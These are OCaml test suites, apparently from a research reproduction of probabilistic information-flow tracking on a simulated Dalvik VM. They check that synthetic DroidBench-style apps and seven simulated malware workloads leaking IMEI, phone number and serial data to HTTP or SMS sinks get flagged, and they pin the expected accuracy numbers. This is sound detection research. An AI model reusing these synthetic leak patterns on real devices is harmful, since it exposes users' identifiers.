       (List.filter (fun (a : App.t) -> a.App.leaky) Droidbench.subset48));
  checki "7 malware" 7 (List.length Malware.all);
  checkb "malware all leaky" true
    (List.for_all (fun (a : App.t) -> a.App.leaky) Malware.all)

let test_unique_names () =
  let names =
    List.map
      (fun (a : App.t) -> a.App.name)
      (Droidbench.all @ Malware.all)
  in
  checki "names unique" (List.length names)
    (List.length (List.sort_uniq String.compare names));
  checkb "find hit" true (Droidbench.find "StringConcat1" <> None);
  checkb "find miss" true (Droidbench.find "Nonexistent" = None)

(* Every app must build and execute; the full-DIFT oracle must agree with
   the ground-truth label — except for the implicit-flow cases, which by
   definition leak without a data flow. *)
let test_ground_truth () =
  List.iter
    (fun (a : App.t) ->
      let recorded = Recorded.record a in
      checkb (a.App.name ^ " produced a trace") true
        (Pift_trace.Trace.length recorded.Recorded.trace > 0);
      let dift = Recorded.replay_dift recorded in
      let expected =
        if String.equal a.App.category "ImplicitFlows" then false
        else a.App.leaky
      in
      checkb
        (Printf.sprintf "%s: full DIFT says %b (label %b)" a.App.name
           dift.Recorded.dift_flagged a.App.leaky)
        expected dift.Recorded.dift_flagged)
    (Droidbench.all @ Malware.all)

let test_every_leaky_app_reaches_a_sink () =
  List.iter
    (fun (a : App.t) ->
      let recorded = Recorded.record a in
      let sinks =
        Array.to_list recorded.Recorded.markers
        |> List.filter (fun (_, m) ->
               match m with
               | Recorded.Sink _ -> true
               | Recorded.Source _ -> false)
      in
      checkb (a.App.name ^ " exercises a sink") true (sinks <> []))
    Droidbench.all

let test_corpus () =
  let apps = Corpus.applications ~lines:24_000 () in
  let libs = Corpus.system_libraries ~lines:24_000 () in
  checkb "apps corpus sized" true (Dex_stats.total_bytecodes apps >= 20_000);
  checkb "libs corpus sized" true (Dex_stats.total_bytecodes libs >= 20_000);
  (* calibration: invoke-virtual must be the most frequent opcode, with a
     share near the paper's numbers *)
  let top rows = (List.hd rows : Dex_stats.row) in
  let apps_top = top (Dex_stats.rows apps) in
  Alcotest.(check string) "apps top opcode" "invoke-virtual"
    apps_top.Dex_stats.mnemonic;
  checkb "apps top share ~11%" true
    (apps_top.Dex_stats.share > 0.08 && apps_top.Dex_stats.share < 0.14);
  let libs_top = top (Dex_stats.rows libs) in
  Alcotest.(check string) "libs top opcode" "invoke-virtual"
    libs_top.Dex_stats.mnemonic;
  (* determinism *)
  let again = Corpus.applications ~lines:24_000 () in
  checki "deterministic generation"
    (Dex_stats.total_bytecodes apps)
    (Dex_stats.total_bytecodes again)

let test_extended_suite () =
  checki "24 extended apps" 24 (List.length Pift_workloads.Extended.all);
  List.iter
    (fun (a : App.t) ->
      let recorded = Recorded.record a in
      (* labels agree with the full-DIFT oracle on direct flows *)
      let dift = Recorded.replay_dift recorded in
      let dift_expected =
        (* implicit flows are invisible to exact data-flow tracking *)
        if String.equal a.App.category "ImplicitFlows" then false
        else a.App.leaky
      in
      checkb
        (a.App.name ^ ": DIFT matches label")
        dift_expected dift.Recorded.dift_flagged;
      (* PIFT is correct at the paper's operating point, except for the
         documented TruncatedClean1 overtainting false positive *)
      let pift =
        Pift_eval.Recorded.replay ~policy:Pift_core.Policy.default recorded
      in
      let expected_pift =
        a.App.leaky || String.equal a.App.name "TruncatedClean1"
      in
      checkb
        (a.App.name ^ ": PIFT as expected at (13,3)")
        expected_pift pift.Recorded.flagged)
    Pift_workloads.Extended.all;
  (* provenance on the merge app names both sources *)
  match Pift_workloads.Extended.find "TaintMerge1" with
  | None -> Alcotest.fail "TaintMerge1 missing"
  | Some a -> (
      let r = Recorded.record a in
      match
        Recorded.replay_provenance ~policy:Pift_core.Policy.default r
      with
      | [ v ] ->
          checkb "both labels" true
            (List.mem "IMEI" v.Recorded.leaked
            && List.mem "PhoneNumber" v.Recorded.leaked)
      | _ -> Alcotest.fail "expected one sink verdict")

let test_evasion_inventory () =
  checki "evasion quartet" 4 (List.length Pift_workloads.Evasion.all);
  checkb "both leaky" true
    (List.for_all (fun (a : App.t) -> a.App.leaky) Pift_workloads.Evasion.all)

let test_browser () =
  let r = Recorded.record Pift_workloads.Browser.app in
  checkb "substantial trace" true
    (Pift_trace.Trace.length r.Recorded.trace > 50_000);
  (* benign: no source registered, sinks all clean under both trackers *)
  checkb "no sources" true
    (not
       (Array.exists
          (fun (_, m) ->
            match m with Recorded.Source _ -> true | Recorded.Sink _ -> false)
          r.Recorded.markers));
  let p = Recorded.replay ~policy:Pift_core.Policy.default r in
  checkb "clean" false p.Recorded.flagged;
  (* loads dominate stores, as in the paper's profile *)
  checkb "load-heavy" true
    (Pift_trace.Trace.loads r.Recorded.trace
    > 2 * Pift_trace.Trace.stores r.Recorded.trace)

let test_lgroot_sizing () =
  let small = Malware.lgroot_sized ~rounds:1 ~payload_chars:64 in
  let r = Recorded.record small in
  checkb "small lgroot runs" true
    (Pift_trace.Trace.length r.Recorded.trace > 1000);
  checkb "sources registered" true
    (Array.exists
       (fun (_, m) ->
         match m with Recorded.Source _ -> true | Recorded.Sink _ -> false)
       r.Recorded.markers)

let () =
  Alcotest.run "pift_workloads"
    [
      ( "inventory",
        [
          Alcotest.test_case "counts" `Quick test_inventory;
          Alcotest.test_case "names" `Quick test_unique_names;
        ] );
      ( "ground truth",
        [
          Alcotest.test_case "full-DIFT oracle vs labels" `Slow
            test_ground_truth;
          Alcotest.test_case "sinks exercised" `Slow
            test_every_leaky_app_reaches_a_sink;
        ] );
      ("corpus", [ Alcotest.test_case "calibration" `Quick test_corpus ]);
      ( "extended",
        [
          Alcotest.test_case "labels & detection" `Slow test_extended_suite;
          Alcotest.test_case "evasion inventory" `Quick
            test_evasion_inventory;
        ] );
      ("malware", [ Alcotest.test_case "lgroot sizing" `Quick test_lgroot_sizing ]);
      ("browser", [ Alcotest.test_case "benign benchmark" `Quick test_browser ]);
    ]
