(* Integration tests for the evaluation layer: the paper's headline
   numbers must reproduce exactly on the shipped suite, the overhead
   regimes must have the right shape, and the record/replay machinery
   must be deterministic. *)

module Policy = Pift_core.Policy
module Tracker = Pift_core.Tracker
module Storage = Pift_core.Storage
module Store = Pift_core.Store
module Range = Pift_util.Range
module App = Pift_workloads.App
module Droidbench = Pift_workloads.Droidbench
module Malware = Pift_workloads.Malware
module Recorded = Pift_eval.Recorded
module Accuracy = Pift_eval.Accuracy
module Overhead = Pift_eval.Overhead
module Tracestats = Pift_eval.Tracestats
module Table1 = Pift_eval.Table1

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)

(* A scaled-down LGRoot shared by the overhead tests. *)
let small_lgroot =
  lazy (Recorded.record (Malware.lgroot_sized ~rounds:6 ~payload_chars:512))

let app name =
  match Droidbench.find name with
  | Some a -> a
  | None -> Alcotest.failf "unknown app %s" name

(* --- record / replay mechanics ------------------------------------------- *)

let test_recording_structure () =
  let r = Recorded.record (app "StringConcat1") in
  checkb "has events" true (Pift_trace.Trace.length r.Recorded.trace > 100);
  checkb "has markers" true (Array.length r.Recorded.markers >= 2);
  (* markers are time-ordered *)
  let sorted = ref true in
  Array.iteri
    (fun i (seq, _) ->
      if i > 0 && seq < fst r.Recorded.markers.(i - 1) then sorted := false)
    r.Recorded.markers;
  checkb "markers ordered" true !sorted;
  (* source comes before sink here *)
  (match r.Recorded.markers.(0) with
  | _, Recorded.Source _ -> ()
  | _ -> Alcotest.fail "expected a source marker first");
  checkb "bytecodes counted" true (r.Recorded.bytecodes > 5)

let test_replay_deterministic () =
  let r = Recorded.record (app "BatchLeak1") in
  let a = Recorded.replay ~policy:Policy.default r in
  let b = Recorded.replay ~policy:Policy.default r in
  checkb "same verdicts" true (a.Recorded.verdicts = b.Recorded.verdicts);
  checki "same taint ops" a.Recorded.stats.Tracker.taint_ops
    b.Recorded.stats.Tracker.taint_ops;
  (* records of the same app are reproducible too *)
  let r2 = Recorded.record (app "BatchLeak1") in
  checki "same trace length"
    (Pift_trace.Trace.length r.Recorded.trace)
    (Pift_trace.Trace.length r2.Recorded.trace)

(* --- §5.1 headline accuracy ------------------------------------------------ *)

let test_headline_accuracy () =
  let c = Accuracy.evaluate ~policy:Policy.default Droidbench.subset48 in
  checki "TP at (13,3)" 31 c.Accuracy.tp;
  checki "FP at (13,3)" 0 c.Accuracy.fp;
  checki "TN at (13,3)" 16 c.Accuracy.tn;
  checki "FN at (13,3)" 1 c.Accuracy.fn;
  let c100 =
    Accuracy.evaluate ~policy:Policy.perfect_droidbench Droidbench.subset48
  in
  checki "FN at (18,3)" 0 c100.Accuracy.fn;
  checki "FP at (18,3)" 0 c100.Accuracy.fp

let test_single_false_negative_is_implicit_flow2 () =
  let missed = Accuracy.misclassified ~policy:Policy.default Droidbench.all in
  match missed with
  | [ ("ImplicitFlow2", `False_negative) ] -> ()
  | other ->
      Alcotest.failf "unexpected misclassifications: %s"
        (String.concat ", " (List.map fst other))

let test_accuracy_staircase () =
  let sweep =
    Accuracy.sweep ~nis:[ 3; 4; 9; 13; 18 ] ~nts:[ 1; 2; 3 ]
      Droidbench.subset48
  in
  let acc ni nt = 100. *. Accuracy.accuracy (Accuracy.cell sweep ~ni ~nt) in
  let close a b = Float.abs (a -. b) < 0.1 in
  checkb "79.2 at (3,1)" true (close (acc 3 1) 79.167);
  checkb "83.3 at (4,2)" true (close (acc 4 2) 83.333);
  checkb "95.8 at (9,3)" true (close (acc 9 3) 95.833);
  checkb "97.9 at (13,3)" true (close (acc 13 3) 97.917);
  checkb "100 at (18,3)" true (close (acc 18 3) 100.);
  (* no false positives anywhere on the grid *)
  List.iter
    (fun ((_, _), c) -> checki "zero FP" 0 c.Accuracy.fp)
    sweep.Accuracy.cells;
  (* monotone in NI at NT=3 *)
  let ordered = List.map (fun ni -> acc ni 3) [ 3; 4; 9; 13; 18 ] in
  checkb "monotone staircase" true
    (List.sort compare ordered = ordered)

(* The exact minimal window of every leaky app in the Fig. 11 subset —
   the band structure behind the accuracy staircase, pinned so workload
   or translation drift is caught immediately. *)
let subset_min_windows =
  [
    ("DirectLeak1", 1); ("SourceCodeSpecific1", 1); ("FieldSensitivity2", 1);
    ("ObjectSensitivity2", 1); ("StaticInitialization1", 1);
    ("ActivityLifecycle1", 1); ("ServiceLifecycle1", 1); ("ArrayAccess2", 1);
    ("ListAccess2", 1); ("IntentSink1", 1); ("Reflection1", 1);
    ("Exceptions1", 1); ("StringConcat1", 2); ("LogLeak1", 2);
    ("PhoneNumber1", 2); ("Serial1", 2); ("DeviceId1", 2); ("Substring1", 2);
    ("StringToUpper1", 2); ("Obfuscation1", 2); ("ArrayCopy1", 2);
    ("Button1", 2); ("BatchLeak1", 3); ("SbChain1", 3); ("Loop2", 5);
    ("ActivityLifecycle2", 5); ("Exceptions2", 5); ("Loop1", 6);
    ("ImplicitFlow1", 7); ("WideLeak1", 9); ("LocationLeak1", 10);
    ("ImplicitFlow2", 18);
  ]

let test_detection_thresholds () =
  let pinned =
    List.sort_uniq String.compare (List.map fst subset_min_windows)
  in
  let subset_leaky =
    List.sort_uniq String.compare
      (List.filter_map
         (fun (a : App.t) -> if a.App.leaky then Some a.App.name else None)
         Droidbench.subset48)
  in
  checkb "pinned set = subset leaky set" true (pinned = subset_leaky);
  List.iter
    (fun (name, min_ni) ->
      let r = Recorded.record (app name) in
      let flagged ni =
        (Recorded.replay ~policy:(Policy.make ~ni ~nt:3 ()) r).Recorded.flagged
      in
      if min_ni > 1 then
        checkb (name ^ " missed below threshold") false
          (flagged (min_ni - 1));
      checkb (name ^ " detected at threshold") true (flagged min_ni))
    subset_min_windows

let test_nt_thresholds () =
  List.iter
    (fun name ->
      let r = Recorded.record (app name) in
      let flagged nt =
        (Recorded.replay ~policy:(Policy.make ~ni:13 ~nt ()) r)
          .Recorded.flagged
      in
      checkb (name ^ " needs NT>=2") false (flagged 1);
      checkb (name ^ " detected at NT=2") true (flagged 2))
    [ "BatchLeak1"; "SbChain1" ]

let test_malware_detection () =
  List.iter
    (fun (a : App.t) ->
      let r = Recorded.record a in
      let rep = Recorded.replay ~policy:Policy.malware_catching r in
      checkb (a.App.name ^ " caught at (3,2)") true rep.Recorded.flagged)
    Malware.all

(* --- Overhead regimes ------------------------------------------------------- *)

let test_overhead_regimes () =
  let r = Lazy.force small_lgroot in
  let m ?untaint ni nt = Overhead.measure ?untaint r ~ni ~nt in
  (* NT=1: tiny, flat *)
  let p1 = m 20 1 in
  checkb "NT=1 stays small" true (p1.Overhead.max_tainted_bytes < 400);
  (* moderate plateau below the explosion threshold *)
  let p13 = m 13 3 in
  let p15 = m 15 3 in
  checkb "explosion at (15,3)" true
    (p15.Overhead.max_tainted_bytes > 3 * p13.Overhead.max_tainted_bytes);
  (* NT=2 does not explode *)
  let p15_2 = m 15 2 in
  checkb "NT=2 flat" true
    (p15_2.Overhead.max_tainted_bytes < p15.Overhead.max_tainted_bytes / 2);
  (* untainting shrinks state at small windows *)
  let on = m ~untaint:true 5 3 and off = m ~untaint:false 5 3 in
  checkb "untainting helps" true
    (2 * on.Overhead.max_tainted_bytes < off.Overhead.max_tainted_bytes);
  checkb "untaint ops happen" true (on.Overhead.untaint_ops > 0);
  checki "no untaint ops when disabled" 0 off.Overhead.untaint_ops

let test_series_monotonic () =
  let r = Lazy.force small_lgroot in
  let _bytes, ops = Overhead.series r ~ni:10 ~nt:3 in
  let rec monotone = function
    | (_, a) :: ((_, b) :: _ as rest) -> a <= b && monotone rest
    | [ _ ] | [] -> true
  in
  checkb "cumulative ops monotone" true (monotone ops);
  checkb "ops recorded" true (List.length ops > 2)

(* --- Trace statistics -------------------------------------------------------- *)

let test_trace_statistics () =
  let r = Lazy.force small_lgroot in
  let s = Tracestats.analyse r in
  (* the paper's "0-10 captures 99%" property *)
  checkb "99% of stores within 10 of a load" true
    (Tracestats.coverage_within s 10 > 0.99);
  let h = Tracestats.load_store_distance s in
  checkb "bulk in 0-5" true (Pift_util.Histogram.cdf h 5 > 0.9);
  (* stores per window grow with NI but saturate *)
  let mean ni =
    Pift_util.Histogram.mean (Tracestats.stores_in_window s ~ni)
  in
  checkb "window capture grows" true (mean 10 >= mean 5);
  (* a window of 10 already captures at least one store per load on
     average (our traces are denser in memory operations than the
     paper's full-Android ones, so saturation is weaker; see
     EXPERIMENTS.md) *)
  checkb "NI=10 captures the related stores" true (mean 10 >= 1.);
  (* distance to the k-th store increases with k *)
  match
    ( Tracestats.kth_store_distance s ~ni:20 ~kth:1,
      Tracestats.kth_store_distance s ~ni:20 ~kth:3 )
  with
  | Some d1, Some d3 -> checkb "k-th store ordering" true (d1 < d3)
  | _ -> Alcotest.fail "expected k-th store distances"

(* --- Table 1 (redundant with test_dalvik but cheap insurance) -------------- *)

let test_table1_spot () =
  let rows = Table1.measure_all () in
  let find m =
    List.find (fun (r : Table1.row) -> r.Table1.mnemonic = m) rows
  in
  checkb "return = 1" true ((find "return").Table1.measured = Some 1);
  checkb "aget = 2" true ((find "aget").Table1.measured = Some 2);
  checkb "iget = 5" true ((find "iget").Table1.measured = Some 5);
  checkb "div unknown" true ((find "div-int").Table1.measured = None)

(* --- Confusion-matrix arithmetic --------------------------------------------- *)

let test_confusion_arithmetic () =
  let c = { Accuracy.tp = 31; fp = 0; tn = 16; fn = 1 } in
  Alcotest.(check (float 1e-6)) "accuracy" (47. /. 48.) (Accuracy.accuracy c);
  Alcotest.(check (float 1e-6)) "fp rate" 0. (Accuracy.fp_rate c);
  Alcotest.(check (float 1e-6)) "fn rate" (1. /. 32.) (Accuracy.fn_rate c);
  let empty = { Accuracy.tp = 0; fp = 0; tn = 0; fn = 0 } in
  Alcotest.(check (float 1e-6)) "empty accuracy" 0. (Accuracy.accuracy empty);
  Alcotest.(check (float 1e-6)) "empty fp" 0. (Accuracy.fp_rate empty)

(* --- Per-process isolation under interleaving --------------------------------- *)

(* Algorithm 1's windows run on per-process instruction counters (Fig. 5),
   so splicing another process's events into the stream must not change a
   process's verdicts — preemption cannot stretch or break a window. *)
let test_interleaving_invariance () =
  let r1 = Recorded.record (app "StringConcat1") in
  (* a second recording re-tagged as pid 2 *)
  let r2 = Recorded.record (app "Loop2") in
  let retag (e : Pift_trace.Event.t) = { e with Pift_trace.Event.pid = 2 } in
  let replay_with_interleave ~chunk =
    let tracker = Pift_core.Tracker.create ~policy:Policy.default () in
    let verdicts = ref [] in
    let mi = ref 0 in
    let markers = r1.Recorded.markers in
    let apply_until seq =
      while !mi < Array.length markers && fst markers.(!mi) <= seq do
        (match snd markers.(!mi) with
        | Recorded.Source { range; _ } ->
            Pift_core.Tracker.taint_source tracker ~pid:1 range
        | Recorded.Sink { ranges; _ } ->
            verdicts :=
              List.exists
                (fun rg -> Pift_core.Tracker.is_tainted tracker ~pid:1 rg)
                ranges
              :: !verdicts);
        incr mi
      done
    in
    apply_until 0;
    let foreign = ref [] in
    Pift_trace.Trace.iter (fun e -> foreign := retag e :: !foreign) r2.Recorded.trace;
    let foreign = Array.of_list (List.rev !foreign) in
    let fi = ref 0 in
    let n = ref 0 in
    Pift_trace.Trace.iter
      (fun e ->
        (* every [chunk] events, splice in a burst of pid-2 events *)
        incr n;
        if chunk > 0 && !n mod chunk = 0 then
          for _ = 1 to 5 do
            if !fi < Array.length foreign then begin
              Pift_core.Tracker.observe tracker foreign.(!fi);
              incr fi
            end
          done;
        Pift_core.Tracker.observe tracker e;
        apply_until e.Pift_trace.Event.seq)
      r1.Recorded.trace;
    apply_until max_int;
    List.rev !verdicts
  in
  let baseline = replay_with_interleave ~chunk:0 in
  checkb "pid-1 verdicts unchanged by preemption" true
    (List.for_all
       (fun chunk -> replay_with_interleave ~chunk = baseline)
       [ 1; 3; 7; 50 ])

(* --- Advisor ---------------------------------------------------------------------- *)

let test_advisor () =
  let corpus =
    Pift_eval.Advisor.of_apps
      (List.filter_map Droidbench.find
         [
           "StringConcat1"; "BatchLeak1"; "Loop1"; "LocationLeak1";
           "BenignConstant1"; "BenignOverwrite1";
         ])
  in
  (* the paper's operating point classifies this sub-corpus perfectly *)
  let c = Pift_eval.Advisor.evaluate corpus ~policy:Policy.default in
  checkb "no FN at (13,3)" true (c.Pift_eval.Advisor.false_negatives = []);
  checkb "no FP at (13,3)" true (c.Pift_eval.Advisor.false_positives = []);
  checkb "cost positive" true (c.Pift_eval.Advisor.overtaint_cost > 0);
  (* the recommendation must be perfect and at least cover the GPS app *)
  (match Pift_eval.Advisor.recommend corpus with
  | Some best ->
      checkb "recommendation perfect" true
        (best.Pift_eval.Advisor.false_negatives = []
        && best.Pift_eval.Advisor.false_positives = []);
      checkb "window covers itoa" true
        (best.Pift_eval.Advisor.policy.Policy.ni >= 10);
      checkb "window covers builders" true
        (best.Pift_eval.Advisor.policy.Policy.nt >= 2)
  | None -> Alcotest.fail "expected a recommendation");
  (* an impossible corpus (evasion attack) yields None *)
  let impossible =
    Pift_eval.Advisor.of_apps [ Pift_workloads.Evasion.attack ]
  in
  checkb "evasion cannot be covered" true
    (Pift_eval.Advisor.recommend impossible = None)

(* --- Flow explanation ------------------------------------------------------------ *)

let test_explain_reaches_source () =
  let r = Recorded.record (app "StringConcat1") in
  match Pift_eval.Explain.explain r with
  | [ flow ] ->
      checkb "chain has hops" true (flow.Pift_eval.Explain.hops <> []);
      checkb "chain reaches the source" true
        (flow.Pift_eval.Explain.source <> None);
      (* hops run backwards in time from sink to source *)
      let seqs =
        List.map (fun h -> h.Pift_eval.Explain.store_seq)
          flow.Pift_eval.Explain.hops
      in
      checkb "hops ordered sink-to-source" true
        (List.sort (fun a b -> compare b a) seqs = seqs)
  | flows -> Alcotest.failf "expected one flow, got %d" (List.length flows)

let test_explain_clean_and_direct () =
  (* benign app: nothing to explain *)
  let r = Recorded.record (app "BenignConstant1") in
  checkb "no flows on clean app" true (Pift_eval.Explain.explain r = []);
  (* reference flow: the sink range IS the source range — zero hops *)
  let r = Recorded.record (app "DirectLeak1") in
  match Pift_eval.Explain.explain r with
  | flow :: _ ->
      checkb "direct flow bottoms out immediately" true
        (flow.Pift_eval.Explain.source <> None
        && flow.Pift_eval.Explain.hops = [])
  | [] -> Alcotest.fail "direct leak should be flagged"

(* --- Experiments driver --------------------------------------------------------- *)

let render_experiment id =
  let buf = Buffer.create 4096 in
  let ppf = Format.formatter_of_buffer buf in
  Pift_eval.Experiments.run id ppf;
  Format.pp_print_flush ppf ();
  Buffer.contents buf

let test_experiments_smoke () =
  checkb "ids documented" true (List.length Pift_eval.Experiments.all >= 20);
  let contains hay needle =
    let n = String.length needle and h = String.length hay in
    let rec go i =
      if i + n > h then false else String.sub hay i n = needle || go (i + 1)
    in
    go 0
  in
  let t1 = render_experiment "table1" in
  checkb "table1 output" true (contains t1 "mul-int/2addr");
  let mw = render_experiment "malware" in
  checkb "malware detects all" true (contains mw "detected 7 / 7");
  (try
     Pift_eval.Experiments.run "nonsense" Format.str_formatter;
     Alcotest.fail "unknown experiment accepted"
   with Failure _ -> ())

(* --- Provenance replay -------------------------------------------------------- *)

let test_provenance_replay () =
  let r = Recorded.record (Malware.lgroot_sized ~rounds:1 ~payload_chars:64) in
  let verdicts = Recorded.replay_provenance ~policy:Policy.default r in
  match verdicts with
  | [ v ] ->
      Alcotest.(check string) "http sink" "http" v.Recorded.pv_kind;
      checkb "IMEI leaked" true (List.mem "IMEI" v.Recorded.leaked);
      checkb "phone leaked" true (List.mem "PhoneNumber" v.Recorded.leaked);
      checkb "serial leaked" true (List.mem "SerialNumber" v.Recorded.leaked)
  | other -> Alcotest.failf "expected one verdict, got %d" (List.length other)

let test_provenance_clean_app () =
  let r = Recorded.record (app "BenignConstant1") in
  let verdicts = Recorded.replay_provenance ~policy:Policy.default r in
  checkb "clean sinks" true
    (List.for_all
       (fun (v : Recorded.provenance_verdict) -> v.Recorded.leaked = [])
       verdicts)

(* --- Hardware-backed tracking ----------------------------------------------- *)

let test_hw_backed_detection () =
  let r = Recorded.record (app "StringConcat1") in
  (* plenty of entries: same verdict as the exact store *)
  let storage = Storage.create ~entries:1024 () in
  let rep =
    Recorded.replay ~store:(Store.of_storage storage) ~policy:Policy.default r
  in
  checkb "cache-backed detection" true rep.Recorded.flagged;
  let st = Storage.stats storage in
  checkb "lookups happened" true (st.Storage.lookups > 0);
  (* a tiny drop-policy cache can lose the flow *)
  let tiny = Storage.create ~entries:2 ~eviction:Storage.Drop () in
  let rep2 =
    Recorded.replay ~store:(Store.of_storage tiny) ~policy:Policy.default r
  in
  let st2 = Storage.stats tiny in
  checkb "drops occurred or still flagged" true
    (st2.Storage.drops > 0 || rep2.Recorded.flagged)

let () =
  Alcotest.run "pift_eval"
    [
      ( "record/replay",
        [
          Alcotest.test_case "structure" `Quick test_recording_structure;
          Alcotest.test_case "determinism" `Quick test_replay_deterministic;
        ] );
      ( "accuracy",
        [
          Alcotest.test_case "headline (13,3)" `Slow test_headline_accuracy;
          Alcotest.test_case "single FN is ImplicitFlow2" `Slow
            test_single_false_negative_is_implicit_flow2;
          Alcotest.test_case "Fig.11 staircase" `Slow test_accuracy_staircase;
          Alcotest.test_case "NI thresholds" `Quick test_detection_thresholds;
          Alcotest.test_case "NT thresholds" `Quick test_nt_thresholds;
          Alcotest.test_case "malware 7/7" `Quick test_malware_detection;
        ] );
      ( "overhead",
        [
          Alcotest.test_case "regimes" `Slow test_overhead_regimes;
          Alcotest.test_case "series" `Quick test_series_monotonic;
        ] );
      ( "trace stats",
        [ Alcotest.test_case "fig2 properties" `Quick test_trace_statistics ] );
      ("table1", [ Alcotest.test_case "spot checks" `Quick test_table1_spot ]);
      ( "provenance",
        [
          Alcotest.test_case "lgroot labels" `Quick test_provenance_replay;
          Alcotest.test_case "clean app" `Quick test_provenance_clean_app;
        ] );
      ( "misc",
        [
          Alcotest.test_case "confusion arithmetic" `Quick
            test_confusion_arithmetic;
          Alcotest.test_case "interleaving invariance" `Quick
            test_interleaving_invariance;
          Alcotest.test_case "experiments smoke" `Quick
            test_experiments_smoke;
          Alcotest.test_case "explain reaches source" `Quick
            test_explain_reaches_source;
          Alcotest.test_case "explain clean & direct" `Quick
            test_explain_clean_and_direct;
          Alcotest.test_case "advisor" `Quick test_advisor;
        ] );
      ( "hardware",
        [ Alcotest.test_case "cache-backed" `Quick test_hw_backed_detection ] );
    ]
