(* Tests for the workload-assembly DSL: label resolution, gaps, loops,
   and the common invocation snippets. *)

module B = Pift_dalvik.Bytecode
module Method = Pift_dalvik.Method
module Vm = Pift_dalvik.Vm
module Env = Pift_runtime.Env
open Pift_workloads.Dsl

let checki = Alcotest.(check int)

let test_body_labels () =
  let code =
    body
      [
        I (B.Const4 (0, 0));
        L "head";
        If_l (B.Ge, 0, 1, "out");
        I (B.Binop_lit8 (B.Add, 0, 0, 1));
        Goto_l "head";
        L "out";
        I (B.Return 0);
      ]
  in
  checki "length" 5 (List.length code);
  (match List.nth code 1 with
  | B.If_test (B.Ge, 0, 1, 4) -> ()
  | _ -> Alcotest.fail "if target wrong");
  (match List.nth code 3 with
  | B.Goto 1 -> ()
  | _ -> Alcotest.fail "goto target wrong");
  (* labels can be forward or backward; unbound ones fail *)
  (try
     ignore (body [ Goto_l "nowhere"; I B.Return_void ]);
     Alcotest.fail "unbound label accepted"
   with Failure _ -> ());
  try
    ignore (body [ L "x"; L "x"; I B.Return_void ]);
    Alcotest.fail "duplicate label accepted"
  with Failure _ -> ()

let test_body_is_blocks () =
  let code =
    body [ Is [ B.Const4 (0, 1); B.Const4 (1, 2) ]; L "l"; Goto_l "l" ]
  in
  checki "expanded" 3 (List.length code);
  match List.nth code 2 with
  | B.Goto 2 -> ()
  | _ -> Alcotest.fail "label after Is block wrong"

let run_body code =
  let env = Env.create ~sink:(fun _ -> ()) () in
  let vm =
    Vm.create env
      (Pift_dalvik.Program.make ~entry:"main"
         [ Method.make ~name:"main" ~registers:8 ~ins:0 code ])
  in
  Vm.call vm "main" []

let test_clean_loop_runs () =
  let code =
    body
      (clean_loop ~counter:0 ~bound:1 ~iterations:25 @ [ I (B.Return 0) ])
  in
  checki "counter reached bound" 25 (run_body code)

let test_window_gap_runs () =
  let code =
    body ([ I (B.Const4 (0, 7)) ] @ window_gap 5 @ [ I (B.Return 0) ])
  in
  checki "falls through the gap" 7 (run_body code);
  (* a gap of n gotos contributes n bytecodes *)
  checki "gap size" 7 (List.length code)

let test_snippets () =
  (* the sugar produces invoke + move-result pairs *)
  (match imei 3 with
  | [ B.Invoke (B.Static, "TelephonyManager.getDeviceId", []);
      B.Move_result_object 3 ] ->
      ()
  | _ -> Alcotest.fail "imei snippet shape");
  (match concat ~dst:2 0 1 with
  | [ B.Invoke (B.Static, "String.concat", [ 0; 1 ]);
      B.Move_result_object 2 ] ->
      ()
  | _ -> Alcotest.fail "concat snippet shape");
  match send_sms ~dest:4 ~msg:5 with
  | B.Invoke (B.Static, "SmsManager.sendTextMessage", [ 4; 5 ]) -> ()
  | _ -> Alcotest.fail "sms snippet shape"

let () =
  Alcotest.run "pift_dsl"
    [
      ( "body",
        [
          Alcotest.test_case "labels" `Quick test_body_labels;
          Alcotest.test_case "instruction blocks" `Quick test_body_is_blocks;
        ] );
      ( "helpers",
        [
          Alcotest.test_case "clean loop" `Quick test_clean_loop_runs;
          Alcotest.test_case "window gap" `Quick test_window_gap_runs;
          Alcotest.test_case "snippets" `Quick test_snippets;
        ] );
    ]
