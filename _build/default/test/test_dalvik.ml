(* Tests for the Dalvik-style VM: method/program validation, translation
   distances (against the Table 1 measurement harness), interpreter
   semantics (arithmetic, control flow, calls, exceptions, fields,
   arrays), and static bytecode statistics. *)

module B = Pift_dalvik.Bytecode
module Method = Pift_dalvik.Method
module Program = Pift_dalvik.Program
module Translate = Pift_dalvik.Translate
module Vm = Pift_dalvik.Vm
module Dex_stats = Pift_dalvik.Dex_stats
module Env = Pift_runtime.Env
module Trace = Pift_trace.Trace

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)
let checks = Alcotest.(check string)

(* --- Method / Program validation ---------------------------------------- *)

let test_method_validation () =
  (try
     ignore (Method.make ~name:"m" ~registers:2 ~ins:0 []);
     Alcotest.fail "empty body accepted"
   with Invalid_argument _ -> ());
  (try
     ignore
       (Method.make ~name:"m" ~registers:2 ~ins:3 [ B.Return_void ]);
     Alcotest.fail "ins > registers accepted"
   with Invalid_argument _ -> ());
  (try
     ignore
       (Method.make ~name:"m" ~registers:2 ~ins:0 [ B.Goto 5; B.Return_void ]);
     Alcotest.fail "bad branch target accepted"
   with Invalid_argument _ -> ());
  let m =
    Method.make ~name:"m" ~registers:4 ~ins:2
      ~handlers:[ { Method.try_start = 0; try_end = 1; target = 1 } ]
      [ B.Nop; B.Return_void ]
  in
  checki "arg reg 0" 2 (Method.arg_reg m 0);
  checki "arg reg 1" 3 (Method.arg_reg m 1);
  checki "frame bytes" 16 (Method.frame_bytes m);
  checkb "handler covers" true (Method.handler_for m ~pc:0 = Some 1);
  checkb "handler misses" true (Method.handler_for m ~pc:1 = None)

let test_program_validation () =
  let m name = Method.make ~name ~registers:2 ~ins:0 [ B.Return_void ] in
  (try
     ignore (Program.make ~entry:"a" [ m "a"; m "a" ]);
     Alcotest.fail "duplicate methods accepted"
   with Invalid_argument _ -> ());
  (try
     ignore (Program.make ~entry:"missing" [ m "a" ]);
     Alcotest.fail "missing entry accepted"
   with Invalid_argument _ -> ());
  let p =
    Program.make ~classes:[ ("C", [ "x"; "y" ]) ] ~entry:"a" [ m "a" ]
  in
  checki "field index" 1 (Program.field_index p ~class_name:"C" ~field:"y");
  checki "field count" 2 (Program.field_count p ~class_name:"C");
  checki "unknown class count" 0 (Program.field_count p ~class_name:"Z")

let test_bytecode_meta () =
  checks "2addr mnemonic" "mul-int/2addr"
    (B.mnemonic (B.Binop_2addr (B.Mul, 0, 1)));
  checks "iget-object" "iget-object" (B.mnemonic (B.Iget_object (0, 1, "f")));
